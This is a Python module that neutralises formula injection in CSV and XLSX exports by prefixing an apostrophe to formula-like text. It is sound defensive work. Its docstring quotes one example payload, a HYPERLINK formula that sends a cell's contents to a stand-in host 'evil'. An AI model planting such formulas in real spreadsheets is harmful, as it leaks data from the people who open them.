"""Cells of every CSV and XLSX file Làng Số hands out, safe to open in a spreadsheet.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab, a line break, or their
full-width forms) is a formula to Excel and LibreOffice: a product named
`=HYPERLINK("http://evil/?"&A2,"Xem")` in a marketplace feed, or a feedback text in a survey
export, would run on the official's machine. Every export writes its rows through
`safe_row` (or `safe_cell`), which puts an apostrophe before such text so that it is shown,
not run (OWASP's "CSV injection" advice; openpyxl would otherwise store it as a formula).

Empty stays empty (None for openpyxl, "" for csv), numbers stay numbers, dates stay dates:
only text is ever changed, and only text that would be a formula.
`langso/core/tests/test_exports.py` checks that every module writing CSV or XLSX uses it.
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """One cell: None for empty, numbers and dates unchanged, formula-like text guarded."""
    if value is None or value == "":
        return None
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int | float | Decimal | date | datetime | time):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_row(values: Iterable[Any], *, empty: Any = None) -> list[Any]:
    """A row through `safe_cell`; `empty=""` for csv.writer, None (an empty cell) for openpyxl."""
    return [empty if (cell := safe_cell(v)) is None else cell for v in values]
